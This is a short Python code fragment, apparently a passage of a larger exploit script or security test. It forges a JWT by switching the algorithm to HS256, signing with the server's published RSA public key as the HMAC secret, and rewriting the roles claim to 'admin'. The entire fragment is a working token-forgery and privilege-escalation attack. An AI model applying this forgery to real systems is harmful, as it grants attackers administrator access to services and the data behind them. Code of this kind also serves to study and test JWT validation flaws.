# requirement: the same form of PEM
new_header = {"alg": "HS256", "typ": "at+jwt", "kid": header["kid"]}
new_claims = json.loads(claims)
new_claims["roles"] = ["admin"]
pem = jwt.PyJWK(mine.find_key(published, header["kid"])).key.public_bytes(
    Encoding.PEM, PublicFormat.PKCS1
)
forged = mine.sign_hs256(new_header, new_claims, pem)
